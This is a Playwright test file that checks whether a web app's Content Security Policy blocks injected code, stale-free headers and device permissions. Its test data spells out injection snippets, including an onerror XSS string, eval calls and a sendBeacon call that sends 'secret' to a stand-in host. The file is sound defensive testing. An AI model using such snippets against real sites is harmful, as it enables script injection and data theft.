/** What a document that got into the page could try: nothing of it may run or leave this machine. */
import { expect, test } from './support/app'

/** Each tries one thing, from a timer, as `eval` from a test's own call is let through. */
const attempts: Readonly<Record<string, { readonly code: string; readonly directive: string }>> = {
  'an inline script': {
    code: `const s = document.createElement('script'); s.textContent = 'window.didRun = 1'; document.head.append(s)`,
    directive: 'script-src-elem',
  },
  'a script from elsewhere': {
    code: `const s = document.createElement('script'); s.src = 'https://example.invalid/a.js'; document.head.append(s)`,
    directive: 'script-src-elem',
  },
  'an event handler in an attribute': {
    code: `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.didRun = 1">')`,
    directive: 'script-src-attr',
  },
  'text turned into code': { code: `(0, eval)('window.didRun = 1')`, directive: 'script-src' },
  'a function made from text': {
    code: `new Function('window.didRun = 1')()`,
    directive: 'script-src',
  },
  'a style sheet in the page': {
    code: `const s = document.createElement('style'); s.textContent = 'body { display: none }'; document.head.append(s)`,
    directive: 'style-src-elem',
  },
  'a picture from elsewhere': {
    code: `new Image().src = 'https://example.invalid/a.png'`,
    directive: 'img-src',
  },
  'a font from elsewhere': {
    code: `new FontFace('a', 'url(https://example.invalid/a.woff2)').load().catch(() => {})`,
    directive: 'font-src',
  },
  'a request to elsewhere': {
    code: `fetch('https://example.invalid/').catch(() => {})`,
    directive: 'connect-src',
  },
  'a beacon to elsewhere': {
    code: `navigator.sendBeacon('https://example.invalid/', 'secret')`,
    directive: 'connect-src',
  },
  'a socket to elsewhere': {
    code: `try { new WebSocket('wss://example.invalid/') } catch {}`,
    directive: 'connect-src',
  },
  'a worker made from text': {
    code: `try { new Worker(URL.createObjectURL(new Blob(['0'], { type: 'text/javascript' }))) } catch {}`,
    directive: 'worker-src',
  },
  'a frame': {
    code: `const f = document.createElement('iframe'); f.src = 'https://example.invalid/'; document.body.append(f)`,
    directive: 'frame-src',
  },
  'a plug-in': {
    code: `const o = document.createElement('object'); o.data = 'https://example.invalid/a'; document.body.append(o)`,
    directive: 'object-src',
  },
  'another base address': {
    code: `const b = document.createElement('base'); b.href = 'https://example.invalid/'; document.head.append(b)`,
    directive: 'base-uri',
  },
  'a form sent elsewhere': {
    code: `const f = document.createElement('form'); f.action = 'https://example.invalid/'; document.body.append(f); f.submit()`,
    directive: 'form-action',
  },
}

for (const [name, { code, directive }] of Object.entries(attempts)) {
  test(`refuses ${name}`, async ({ app }) => {
    const { page } = app
    const address = page.url()
    // Playwright tells of a request before the browser refuses it, and then why it failed.
    const failures = new Map<string, string | undefined>()
    page.on('requestfailed', request => {
      failures.set(request.url(), request.failure()?.errorText)
    })
    const refused = page.evaluate(
      () =>
        new Promise<string>(resolve => {
          const listen = (event: SecurityPolicyViolationEvent) => resolve(event.effectiveDirective)
          document.addEventListener('securitypolicyviolation', listen, { once: true })
        }),
    )
    // A function made here would be let through as the test's own; one in a timer is the page's.
    await page.evaluate(script => {
      const run = new Function(script)
      setTimeout(() => run(), 0)
    }, code)

    expect(await refused).toBe(directive)
    expect(await page.evaluate(() => 'didRun' in window)).toBe(false)
    expect(page.url()).toBe(address)
    const faults = app.takeFaults()
    expect(faults.length).toBeGreaterThan(0)
    for (const fault of faults) {
      const [, target] = /^request to (.*)$/.exec(fault) ?? []
      if (target !== undefined) expect(failures.get(target)).toBe('csp')
    }
  })
}

test('has a policy on every answer that the page gets', async ({ app }) => {
  const answers: string[] = []
  app.page.on('response', response => {
    if (!response.url().startsWith('http')) return
    const policy = response.headers()['content-security-policy'] ?? 'none'
    answers.push(policy.replace(/'nonce-[^']+'/, 'NONCE'))
  })
  await app.reload()

  expect(answers.length).toBeGreaterThan(1)
  expect(new Set(answers).size).toBe(1)
  expect(answers[0]).toMatch(/^default-src 'none'; script-src 'self' 'wasm-unsafe-eval';/)
})

test('is denied every device and sense, and nobody is asked', async ({ app }) => {
  const names = ['camera', 'microphone', 'geolocation', 'midi', 'clipboard-read', 'local-fonts']
  const states = await app.page.evaluate(
    asked =>
      Promise.all(
        // TypeScript's list of names is shorter than Chromium's.
        asked.map(name => navigator.permissions.query({ name: name as PermissionName })),
      ).then(found => found.map(({ state }) => state)),
    names,
  )
  expect(states).toEqual(names.map(() => 'denied'))
})
